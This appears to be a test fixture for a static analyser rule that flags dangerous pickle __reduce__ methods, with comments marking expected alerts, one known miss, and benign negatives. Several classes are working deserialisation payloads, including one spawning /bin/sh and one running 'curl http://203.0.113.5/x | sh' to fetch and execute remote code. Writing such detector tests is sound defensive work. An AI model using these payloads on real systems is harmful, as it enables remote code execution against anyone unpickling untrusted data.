import os
import pickle
import subprocess


class Shell:
    def __reduce__(self):
        return (os.system, ("/bin/sh",))
        #      ^^^^^^^^^^^^^^^^^^^^^^^^^ alert


class Output(object):
    def __reduce__(self):
        return (subprocess.check_output, (["id"],))
        #      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ alert


class Code:
    def __reduce_ex__(self, protocol):
        return eval, ("__import__('os').getcwd()",)
        #      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ alert


class Late:
    def __reduce__(self):
        command = "curl http://203.0.113.5/x | sh"
        return (os.popen, (command,))
        #      ^^^^^^^^^^^^^^^^^^^^^^ alert


class Runner:
    def __reduce__(self):
        return (exec, ("import os; os.remove('/tmp/x')",))
        #      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ alert


class Hidden:
    def __reduce__(self):
        run = os.system
        return (run, ("id",))
        #      ^^^^^^^^^^^^^^ missed: under another name


class Point:
    def __init__(self, x, y):
        self.x, self.y = x, y

    def __reduce__(self):
        return (Point, (self.x, self.y))


class Connection:
    def __reduce__(self):
        return connect, (self.address,)


class Singleton:
    def __reduce__(self):
        return "SINGLETON"

    def reduce(self):
        return (os.system, ("date",))


def run():
    return (os.system, ("date",))


pickle.dumps(Point(1, 2))
